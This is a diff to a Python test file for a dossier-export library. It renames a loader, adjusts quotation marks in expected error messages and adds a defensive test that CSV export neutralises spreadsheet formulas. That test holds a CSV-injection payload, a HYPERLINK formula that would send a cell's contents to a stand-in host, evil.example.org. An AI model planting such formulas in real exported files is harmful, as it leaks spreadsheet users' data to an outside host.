@@ -21,7 +21,7 @@ from briefings import rows
 from briefings.dates import PartialDate
 from briefings.export import Item, as_dict, noun, to_csv, to_json, to_toml
 from briefings.faults import ContentError
-from briefings.load import FILES, NOUNS, TABLES, parse, read_dossier
+from briefings.load import FILES, NOUNS, TABLES, parse, read
 from briefings.model import (
     About,
     Briefing,
@@ -159,13 +159,12 @@ DOSSIERS = st.builds(
 )
 
 
-def _through_toml(dossier: Dossier) -> Dossier | None:
+def _through_toml(written: Dossier) -> Dossier:
     with tempfile.TemporaryDirectory() as folder:
-        for name, text in to_toml(dossier).items():
+        for name, text in to_toml(written).items():
             Path(folder, name).write_text(text, encoding="utf-8")
-        read, faults = read_dossier(Path(folder))
-    assert faults == []
-    return read
+        (dossier,) = read([Path(folder)]).dossiers  # The rules find much in it; what cannot be read is not in it.
+    return dossier
 
 
 def test_the_sample_comes_back_from_toml(sample: Dossier) -> None:
@@ -282,14 +281,14 @@ def test_csv_has_a_column_for_every_field_used(sample: Dossier) -> None:
         (
             from_json,
             '[{"kind": "poem"}]',
-            ["JSON: row 1: kind: 'poem' is no kind of record; write one of dossier, que"],
+            ["JSON: row 1: kind: “poem” is no kind of record; write one of dossier, que"],
         ),
         (from_json, '[{"kind": []}]', ["JSON: row 1: kind: is missing or no text; write one of dossier, question"]),
         (from_json, '[{"kind": {"a": 1}}]', ["JSON: row 1: kind: is missing or no text"]),
         (
             from_json,
             '[{"kind": "person", "id": "a", "name": "A", "summary": "s"}, {"kind": "person", "id": "A", "summary": 1}]',
-            ["JSON: row 2: id: 'A' is no id", "JSON: row 2: name: is missing", "JSON: row 2: summary: 1 is no text"],
+            ["JSON: row 2: id: “A” is no id", "JSON: row 2: name: is missing", "JSON: row 2: summary: 1 is no text"],
         ),
         (from_csv, "kind,id\n,a\n", ["CSV: row 1: kind: is missing or no text"]),
         (from_csv, "kind,id\n[1],a\n", ["CSV: row 1: kind: is missing or no text"]),
@@ -306,6 +305,15 @@ def test_faults_are_told_by_row_and_field(read: Reader, text: str, faults: list[
 def test_a_surplus_cell_is_told_as_one() -> None:
     with pytest.raises(ContentError, match=r"^CSV: row 1: .*cell"):
         from_csv("kind,id,name,summary\nperson,a,A,s,surplus\n")
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
+def test_no_cell_is_a_formula_to_a_spreadsheet(begin: str) -> None:
+    text = f'{begin}HYPERLINK("https://evil.example.org/?"&A1,"“Look”")'
+    person = Person("a", name=text, summary=f"{begin}1", aliases=(text,))
+    written = to_csv(_items([person]))
+    assert all(cell.lstrip()[:1] != begin for line in csv.reader(written.splitlines()) for cell in line)
+    assert from_csv(written) == [person]
 
 
 def test_deeply_nested_json_is_told_not_raised() -> None:
@@ -329,6 +337,6 @@ def test_a_cell_written_by_hand_is_read_as_text_where_it_is_no_json(cell: str, n
     | st.recursive(st.none() | st.text(), lambda v: st.lists(v) | st.dictionaries(st.text(), v)).map(json.dumps)
 )
 def test_no_text_makes_reading_fail_but_by_faults(text: str) -> None:
-    for read in (from_json, from_csv):
+    for taken in (from_json, from_csv):
         with suppress(ContentError):
-            assert all(isinstance(record, get_args(Record)) for record in read(text))
+            assert all(isinstance(record, get_args(Record)) for record in taken(text))
